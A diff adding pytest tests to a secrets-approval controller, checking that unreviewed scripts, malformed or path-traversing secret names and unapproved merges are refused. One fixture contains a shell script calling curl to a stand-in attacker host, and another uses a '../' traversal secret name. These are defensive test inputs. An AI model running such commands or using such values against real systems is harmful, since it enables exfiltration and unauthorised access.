@@ -346,3 +346,66 @@ def test_a_key_kubernetes_would_refuse_is_refused_before_the_merge(
     assert approve_and_handle(world, controller, number) is Status.INVALID
     assert "spec.set...data: key may not be '.' or start with '..'" in summary(world, number)
     untouched(world, controller, number)
+
+
+# -- odd files and names ---------------------------------------------------------------------
+
+
+def test_a_script_under_changes_is_read_as_a_change_and_refused(
+    world: World, controller: Controller
+) -> None:
+    # Anything under changes/ is judged as a change, so nothing rides along unreviewed.
+    number = open_files(
+        world,
+        {
+            "changes/production/x.yaml": world.change_yaml("x", b"v1"),
+            "changes/production/run.sh": b"#!/bin/sh\ncurl https://attacker.example\n",
+        },
+    )
+    assert approve_and_handle(world, controller, number) is Status.INVALID
+    assert "changes/production/run.sh:2: a document must be a mapping" in summary(world, number)
+    untouched(world, controller, number)
+
+
+def test_secret_names_kubernetes_would_read_differently_are_refused(
+    world: World, controller: Controller
+) -> None:
+    files = {
+        "changes/production/upper.yaml": world.change_yaml("u", b"v1", secret=f"{NAMESPACE}/DB"),
+        "changes/production/dots.yaml": world.change_yaml(
+            "d", b"v1", secret=f"{NAMESPACE}/db/../other"
+        ),
+    }
+    number = open_files(world, files)
+    assert approve_and_handle(world, controller, number) is Status.INVALID
+    text = summary(world, number)
+    for path in files:
+        assert f"{path}:7: spec.secret: must be <namespace>/<name>" in text
+    untouched(world, controller, number)
+
+
+def test_deleting_an_applied_change_file_changes_nothing(
+    world: World, controller: Controller
+) -> None:
+    first = world.open_pull(b"applied-value")
+    assert approve_and_handle(world, controller, first) is Status.SYNCED
+    applied = str(world.hub.pull(OWNER, REPO, first)["head"]["ref"])
+    number = open_files(world, {f"changes/{ENV}/{applied}.yaml": None})
+    assert approve_and_handle(world, controller, number) is Status.INVALID
+    assert "nothing to approve" in summary(world, number)
+    stored = controller.store.read_secret(ENV, PATH)
+    assert stored is not None
+    assert (stored.version, stored.data["password"]) == (1, b"applied-value")
+
+
+def test_a_pull_request_merged_around_sealgate_is_never_applied(
+    world: World, controller: Controller
+) -> None:
+    number = world.open_pull(b"unreviewed-value")
+    world.as_user("erin").get_repo(FULL).get_pull(number).merge()
+    status = controller.reconciler.handle(FULL, number)
+    assert status.status is Status.FAILED
+    assert "merged by erin without an approved sealgate decision" in " ".join(status.messages)
+    assert controller.store.list_secrets(ENV) == []
+    assert world.secret() is None
+    assert world.rollouts() == 0
